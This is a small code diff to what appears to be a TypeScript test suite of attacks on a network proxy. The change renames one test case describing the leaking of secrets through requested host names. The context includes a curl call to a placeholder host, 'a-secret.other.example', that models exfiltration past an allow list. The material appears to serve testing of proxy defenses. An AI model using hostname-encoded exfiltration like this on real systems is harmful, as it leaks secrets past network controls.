@@ -153,7 +153,7 @@ export const proxy: Attack[] = [
       }`,
   ),
   past(
-    "names as a way to tell secrets",
+    "names asked of the proxy as a way to tell secrets",
     () => ["allowed.example"],
     () => curl("http://a-secret.other.example/", "https://a-secret.other.example/"),
     {
